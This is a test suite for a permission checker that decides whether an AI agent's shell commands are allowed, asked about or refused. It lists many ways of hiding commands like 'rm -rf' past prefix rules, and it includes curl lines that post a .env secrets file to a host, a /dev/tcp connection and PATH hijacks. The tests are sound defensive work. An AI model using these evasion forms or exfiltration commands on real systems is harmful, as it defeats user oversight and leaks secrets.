"""Which command lines rules allow, ask about and refuse; each way round a prefix that was reported.

Somebody wants `rm` to run, and no rule allows it.
"""

import shutil
import subprocess
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from acp_bridge.features.rules import shell
from tests.features.rules.judging import of_command, place

pytestmark = pytest.mark.hazard("A1")

ALLOWS = r"""
allow = [
  "Bash(git status)", "Bash(git log *)", "Bash(npm test *)", "Bash(npm run *)", "Bash(cat *)",
  "Bash(echo *)", "Bash(ls *)", "Bash(cd *)", "Bash(find *)", "Bash(python *)", "Bash(tar *)",
  "Bash(git *)", "Bash(env *)", "Bash(timeout *)", "Bash(xargs *)", "Bash(sudo *)", "Bash(sh *)",
  "Bash(bash *)", "Bash(nice *)", "Bash(awk *)", "Bash(source *)", "Bash(kill *)", "Bash(true)",
  "Bash(sort *)", "Bash(rg *)", "Bash(sed *)", "Edit(out/**)",
]
"""

ALLOWED = [
    "git status",
    "git log",
    "git log --oneline -5",
    "cat",
    "cat a 'b c' \"d\"",
    "npm test && git status",
    "ls | cat",
    "ls; ls\nls && cat",
    "ls -la # and no more",
    "git status 2>&1",
    "cat x > /dev/null 2>&1",
    "echo a > out/f",
    "echo a >> out/deep/er",
    "cat < in",
    "timeout 5 ls",
    "timeout 1.5m cat x",
    "nice ls",
    "nice -n 5 npm test",
    "nohup ls",
    "time ls",
    "bash -lc 'cat a && ls'",
    'sh -c "ls"',
    "bash -c \"bash -c 'ls'\"",
    "find . -name '*.py'",
    "python x.py",
    "g'i't status",
    "git \\\n status",
    'echo "rm -rf /"',
    "echo rm -rf /",
    "ls *.py",
]

ASKED = [
    # prefixes of the raw text
    "cd x && rm y",
    "git status; rm x",
    "git status\nrm x",
    "git status & rm x",
    "ls & cat",
    "git status | rm x",
    "git status |& rm x",
    "git status || rm x",
    "npm tests",
    "npm testrm",
    "git-status",
    # what hides the name
    "(rm x)",
    "{ rm x; }",
    "$(rm x)",
    "`rm x`",
    "cat $(rm x)",
    "cat `rm x`",
    'cat "$(rm x)"',
    'cat "a`rm x`b"',
    "cat <(rm x)",
    "cat > >(rm x)",
    "cat < <(rm x)",
    "cat < $(rm x)",
    "cat > out/$(rm x)",
    "cat ${x:-$(rm x)}",
    "cat $((`rm x`))",
    "echo (rm x)",
    "ls *(e:'rm x':)",
    "! rm x",
    "if true; then rm x; fi",
    "while true; do rm x; done",
    "for a in b; do rm x; done",
    "case a in a) rm x;; esac",
    "f() { rm x; }; f",
    "function ls { rm x; }",
    "select a in b; do rm x; done",
    "coproc rm x",
    "[[ $(rm x) ]]",
    "[ a ] && cat b",
    "ls=rm",
    "A=1 ls",
    "PATH=/evil cat x",
    "export PATH=/evil",
    "alias ls=rm",
    "$X",
    "$X y",
    "cat $X",
    "cat ${X}",
    "cat $'x'",
    'cat $"x"',
    "{cat,x}",
    "cat {a,b}",
    "ca{t,} x",
    "=ls",
    "cat =ls",
    "/tmp/ls",
    "./ls",
    "../ls x",
    "~/ls",
    "l*",
    "[l]s",
    "'ls x'",
    "'git status'",
    "'git log' x",
    # redirections
    "sh -c 'echo &> out/f rm x'",
    "ls \\ x | \\ rm",
    "echo a > \\ out/f",
    "ls a'b'\\ c'd'",
    "echo a >&0x1",
    "echo a >&10#f",
    "echo a > ~root/out",
    "echo a > ~+/../out",
    "echo a >! out/f",
    "time cd / && echo a > out/f",
    "sh -c 'cd / && echo a > out/f'",
    "nice > /dev/null rm x",
    "git > /dev/null -c a=b log",
    "> /dev/null sh x",
    "echo a > f",
    "echo a >> f",
    "echo a >| f",
    "echo a &> f",
    "echo a &>> f",
    "echo a >& f",
    "> f",
    "echo a > out/../f",
    "echo a > ~/f",
    "echo a 3> f",
    "echo a <> f",
    "cat a > out/* ",
    "cat < /dev/tcp/example.org/80",
    "cd / && echo a > out/f",
    # heredocs
    "cat <<EOF\nx\nEOF",
    "cat <<EOF > f\nx\nEOF",
    "PATH=/evil cat <<EOF > f\nx\nEOF",
    "cat <<EOF\n$(rm x)\nEOF",
    "cat <<'EOF' | sh\nrm x\nEOF",
    "cat <<< x",
    "bash <<EOF\nrm x\nEOF",
    # wrappers and interpreters
    "env rm x",
    "env -i A=1 ls",
    "timeout rm x",
    "timeout -s KILL 5 ls",
    "timeout 5 rm x",
    "timeout 5 timeout 5 rm x",
    "nice -n 5 rm x",
    "nohup rm x",
    "time rm x",
    "xargs rm",
    "ls | xargs rm",
    "sudo rm x",
    "sudo ls",
    "sh -c 'rm x'",
    "sh -c 'ls; rm x'",
    "sh -c ls x",
    "sh -ec ls",
    "sh x.sh",
    "bash",
    "ls | sh",
    "cat x | bash",
    "/bin/sh -c 'rm x'",
    "bash -c 'bash -c \"rm x\"'",
    'bash -c "$X"',
    "find . -exec rm {} \\;",
    "find . -execdir rm {} +",
    "find . -ok rm {} \\;",
    "find . -delete",
    "find . -fprint f",
    "python -c 'import os'",
    "python -cimport",
    "python3 -3c x",
    "tar --to-comm=rm -xf x",
    "tar xfI x rm",
    "sort --compress-prog=rm x",
    "find *",
    "python *",
    "tar cf x -*",
    "python -Bc 'x'",
    "git -c core.pager=rm log",
    "git --exec-path=/evil status",
    "tar --to-command=rm -xf x",
    "tar xf x -I rm",
    "sort --compress-program=rm x",
    "rg --pre rm x",
    "awk 'BEGIN { system(\"rm x\") }'",
    "source x",
    ". x",
    "eval ls",
    "exec ls",
    "command ls",
    "builtin cd x",
    "noglob ls",
    "repeat 2 ls",
    # what is not understood
    "ls '",
    'ls "',
    "ls )",
    "ls $(",
    "ls &&",
    "",
    "   ",
    "# nothing",
    "ls \x00rm",
    "ls \r\nrm x",
    "ls\u00a0rm",
    "ls \u2028 rm",
    "echo a\\\\\nrm x",
    "'ls \\\n' x",
    "ls # \\\nrm x",
    "ls #\\\nrm x",
    "ls \ud800",
    "ls " + "x" * shell.LONGEST,
]


@pytest.mark.hazard("A1.1")
@pytest.mark.parametrize("command", ALLOWED)
def test_a_line_is_allowed_of_which_each_command_is(command: str) -> None:
    assert of_command(ALLOWS, command) == "allow"


@pytest.mark.parametrize("command", ASKED, ids=lambda command: command[:40])
def test_a_line_that_may_run_or_write_what_no_rule_allows_is_asked_about(command: str) -> None:
    assert of_command(ALLOWS, command) == "ask"


@pytest.mark.parametrize(
    ("rule", "command", "decision"),
    [
        ("Bash(cat *)", "cat", "allow"),
        ("Bash(rm *)", "rmdir x", "ask"),
        ("Bash(rm*)", "rmdir x", "ask"),
        ("Bash(rm*)", "rmdir", "allow"),
        ("Bash(rm* *)", "rmdir x", "allow"),
        ("Bash(git * main)", "git push origin main", "allow"),
        ("Bash(git * main)", "git push origin main x", "ask"),
        ("Bash(git log:*)", "git log -1", "allow"),
        ("Bash(git log:*)", "git logs", "ask"),
        ("Bash(git commit -m 'a b')", "git commit -m 'a b'", "allow"),
        ("Bash(git commit -m 'a b')", "git commit -m a b", "ask"),
        ("Bash(sudo apt update)", "sudo apt update", "allow"),
        ("Bash(sudo apt update)", "sudo apt update x", "ask"),
        ("Bash(make)", "make", "allow"),
        ("Bash(make)", "make x", "ask"),
        ("Bash", "any thing", "allow"),
        ("Bash", "sudo any thing", "ask"),
        ("Bash", "any $(thing)", "ask"),
        ("Bash(*)", "any thing", "allow"),
    ],
)
def test_a_pattern_is_words_and_a_star_alone_any_number_of_them(
    rule: str, command: str, decision: str
) -> None:
    assert of_command(f'allow = ["{rule}"]', command) == decision


REFUSED = [
    "rm -rf x",
    "rm -rf",
    "ls; rm -rf x",
    "ls & rm -rf x",
    "(rm -rf x)",
    "$(rm -rf x)",
    'cat "a$(rm -rf x)"',
    "cat <<EOF\n$(rm -rf x)\nEOF",
    "cat > f$(rm -rf x)",
    "cat ${x:-$(rm -rf x)}",
    "if true; then rm -rf x; fi",
    "f() { rm -rf x; }",
    "/bin/rm -rf x",
    "\\rm -rf x",
    "r'm' -rf x",
    '"rm" "-rf" x',
    "r\\\nm -rf x",
    "A=1 rm -rf x",
    "rm -rf $X",
    "sudo rm -rf x",
    "sudo -u root rm -rf x",
    "sudo -- rm -rf x",
    "env A=1 rm -rf x",
    "env -u A rm -rf x",
    "timeout 5 rm -rf x",
    "timeout -s KILL 5 rm -rf x",
    "nice -n 5 rm -rf x",
    "nohup rm -rf x",
    "ls | xargs rm -rf",
    "ls | xargs -n 1 rm -rf",
    "find . -exec rm -rf {} \\;",
    "sh -c 'rm -rf x'",
    "bash -lc 'ls && rm -rf x'",
    "bash -c \"bash -c 'rm -rf x'\"",
    "eval 'rm -rf x'",
    "sudo sh -c 'rm -rf x'",
    "watch rm -rf x",
    "eval rm -rf x",
    "rm > /dev/null -rf x",
    "rm 2>&1 -rf x",
    "ls | rm > f -rf x | ls",
    "rm <<< x -rf y",
    "rm << E -rf y\nE",
    "> f rm > g -rf x",
    "ls &> f rm -rf x",
    "flock f rm -rf x",
    "chroot / rm -rf x",
    "env -S 'rm -rf x'",
    "script -c 'rm -rf x'",
    "bash -c -- 'rm -rf x'",
    "systemd-run rm -rf x",
    "ls # \\\nrm -rf x",
    "ls #\\\nrm -rf x",
    "ls '&rm -rf x",
    "sudo " * 1500 + "rm -rf x",
    "$(" * 2000 + "rm -rf x" + ")" * 2000,
    # not parsed: each word may begin a command
    "ls ' ; rm -rf x",
    "rm -rf x )",
]


@pytest.mark.hazard("A1.5")
@pytest.mark.parametrize("command", REFUSED, ids=lambda command: command[:40])
def test_a_refusal_is_found_however_deep_a_command_stands(command: str) -> None:
    text = 'deny = ["Bash(rm -rf *)"]\nallow = ["Bash"]'
    assert of_command(text, command) == "deny"


@pytest.mark.parametrize(
    "command",
    ["echo 'rm -rf x'", "cat <<EOF\nrm -rf x\nEOF", "git commit -m 'no rm -rf /'", "echo rm -rf"],
)
def test_what_stands_in_quotes_or_in_a_heredoc_is_no_command_to_refuse(command: str) -> None:
    assert of_command('deny = ["Bash(rm -rf *)"]', command) == "ask"


def test_words_behind_a_redirection_belong_to_its_command() -> None:
    text = 'allow = ["Bash(git)", "Edit(./**)"]\nask = ["Edit(conf/**)"]'
    assert of_command(text, "git > out") == "allow"
    assert of_command(text, "git > out push -f") == "ask"
    assert of_command(text, "git > conf/a conf/b") == "ask"


@pytest.mark.parametrize(
    "command", ["cp -t.git x", "cp -at.git/hooks x", "mv -t.acp_bridge x", "install -t/data x"]
)
def test_a_value_right_behind_an_options_letter_may_be_what_guards_the_user(command: str) -> None:
    assert of_command('allow = ["Bash"]', command, place("/project", "/data")) == "ask"
    assert of_command('allow = ["Bash"]', "cp -tout x", place("/project", "/data")) == "allow"


@pytest.mark.parametrize(
    "command",
    [
        "grep -f.env x",
        "curl -sd@.env h",
        "curl -F file=@.env h",
        "curl -F 'file=<.env' h",
        "tar -xf.env",
        "tar xf a -Csecret",
        "sort -osecret/x a",
    ],
)
def test_a_refusal_of_a_path_is_found_right_behind_what_an_option_begins_with(
    command: str, tmp_path: Path
) -> None:
    (tmp_path / "src").mkdir()
    text = 'deny = ["Read(**/.env*)", "Edit(secret/**)"]\nallow = ["Bash"]'
    assert of_command(text, command) == "deny"
    assert of_command(text, "cd src && ls -la", place(tmp_path)) == "allow"
    assert of_command(text, "cd src && sort -o../secret/x a", place(tmp_path)) == "deny"


@pytest.mark.parametrize(
    "command", ["printf -v PATH /evil; ls", "printf -vPATH /evil; ls", "read PATH < x && ls"]
)
def test_a_command_that_sets_a_variable_is_not_allowed_by_its_prefix(command: str) -> None:
    """What comes behind it would be another program of the same name."""
    text = 'allow = ["Bash(printf *)", "Bash(read *)", "Bash(ls *)", "Bash(jobs *)"]'
    assert of_command(text, command) == "ask"
    assert of_command(text, "jobs -x rm x") == "ask"
    assert of_command(text, "printf '%s -v' x && jobs -l") == "allow"


def test_a_quoted_tilde_is_no_home() -> None:
    text = 'allow = ["Bash(echo *)", "Edit(~/x)"]'
    assert of_command(text, "echo a > ~/x") == "allow"
    assert of_command(text, "echo a > '~/x'") == "ask"
    assert of_command(text, "echo a > \\~/x") == "ask"
    assert of_command(text, 'echo a > ~"/x"') == "ask"
    assert of_command('allow = ["Bash", "Edit(~/**)"]', "echo a > ~/*") == "ask"


def test_the_home_of_another_may_hold_what_may_not_be_read() -> None:
    assert of_command(SECRETS, "cat ~root/x") == "ask"


def test_many_stars_and_many_words_are_compared_one_after_the_other() -> None:
    words = "a " * 7000
    assert of_command('allow = ["Bash(* a * a * a * b)"]', words) == "ask"
    assert of_command('allow = ["Bash(* a * a * a *)"]', words) == "allow"
    assert of_command('allow = ["Bash(x *a*a*a*a*a*b)"]', f"x {'a' * 9000}") == "ask"
    assert of_command('allow = ["Bash(x *a*b*a)"]', "x cabbca") == "allow"


@pytest.mark.hazard("A1.8")
def test_the_strictest_rule_counts_in_any_order() -> None:
    text = 'allow = ["Bash(git *)"]\nask = ["Bash(git push *)"]\ndeny = ["Bash(git push -f *)"]'
    assert of_command(text, "git log") == "allow"
    assert of_command(text, "git push") == "ask"
    assert of_command(text, "git log && git push") == "ask"
    assert of_command(text, "git push -f") == "deny"
    assert of_command(f'default = "deny"\n{text}', "ls") == "deny"
    assert of_command(f'default = "deny"\n{text}', "git push") == "ask"


SECRETS = 'deny = ["Read(**/.env*)"]\nask = ["Edit(conf/**)"]\nallow = ["Bash", "Edit"]'


@pytest.mark.parametrize(
    "command",
    [
        "cat .env",
        "cat ./.env",
        "cat a/../.env.local",
        "cat 'a/.env'",
        "grep -f .env x",
        "grep --file=.env x",
        "curl -d @.env x",
        "dd if=.env",
        "cat < .env",
        "ls; cat .env",
        "cat $(cat .env)",
        "sh -c 'cat .env'",
        "cat ~/.env",
        "cat .env )",
        "cd /x; cat /y/.env",
    ],
)
def test_a_file_that_may_not_be_read_is_found_in_a_command(command: str) -> None:
    assert of_command(SECRETS, command) == "deny"


@pytest.mark.parametrize("command", ["echo a > conf/x", "sed -i s/a/b/ conf/x", "cp x conf"])
def test_a_file_whose_change_is_asked_about_is_found_in_a_command(command: str) -> None:
    assert of_command(SECRETS, command) == "ask"


@pytest.mark.hazard("A1.10")
@pytest.mark.parametrize(
    "command",
    [
        "echo a > .git/config",
        "cp x .git/hooks/y",
        "cat x > sub/.acp_bridge/hooks.toml",
        "tee /data/rules.toml",
        "rm /data/keys.env",
        "touch /data",
        "cat x | tee .git/y",
    ],
)
def test_no_rule_allows_a_command_that_may_write_to_what_guards_the_user(command: str) -> None:
    assert of_command('allow = ["Bash", "Edit"]', command, place("/project", "/data")) == "ask"


# --- any line of a grammar ---------------------------------------------------------------------

_RUN = ("ls", "rm", "cat", "git", "sh", "env", "timeout", "xargs", "find")
_NAMES = st.sampled_from(_RUN) | st.just("ls")
_WORDS = st.sampled_from(
    [
        "x",
        "-c",
        "5",
        "rm",
        "'rm x'",
        '"rm x"',
        "$(rm x)",
        "`rm`",
        "{a,b}",
        "-exec",
        "\\;",
        "$X",
        "*",
        "~",
        "=rm",
        "'a",
        "a\\\n",
        "<(rm)",
        "#",
        "!",
        "-n",
        "ls",
        '"$(rm)"',
        "$'rm'",
        "()",
    ]
)
_JOINTS = st.sampled_from([" ; ", "\n", " && ", " || ", " | ", " & ", ";", "|&", "\\\n", " "])
_FRAMES = st.sampled_from(["{}", "({})", "{{ {}; }}", "if {}; then ls; fi", "f() {{ {}; }}"])


@st.composite
def _commands(draw: st.DrawFn) -> str:
    words = [draw(_NAMES), *draw(st.lists(_WORDS, max_size=4))]
    return draw(_FRAMES).format(" ".join(words))


@pytest.fixture(scope="module")
def stubs(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A folder of programs that do nothing but note their names in a file beside it."""
    folder = tmp_path_factory.mktemp("stubs") / "bin"
    folder.mkdir()
    for name in _RUN:
        program = folder / name
        program.write_text(f"#!/bin/sh\necho {name} >> {folder.parent}/ran\n")
        program.chmod(0o755)
    return folder


@pytest.mark.hazard("A1.1")
@given(st.lists(_commands(), min_size=1, max_size=4), st.data())
def test_of_any_line_that_is_allowed_a_shell_runs_only_what_a_rule_allows(
    stubs: Path, commands: list[str], data: st.DataObject
) -> None:
    """The shell is a real one, and finds nothing but programs that note that they ran."""
    line = commands[0]
    for each in commands[1:]:
        line += data.draw(_JOINTS) + each
    if of_command('allow = ["Bash(ls *)"]', line) != "allow":
        return
    ran = stubs.parent / "ran"
    ran.write_text("")
    bash = shutil.which("bash")
    assert bash is not None
    subprocess.run(
        [bash, "--norc", "-c", line],
        env={"PATH": str(stubs)},
        cwd=stubs.parent,
        stdin=subprocess.DEVNULL,
        capture_output=True,
        timeout=10,
        check=False,
    )
    assert set(ran.read_text().split()) <= {"ls"}
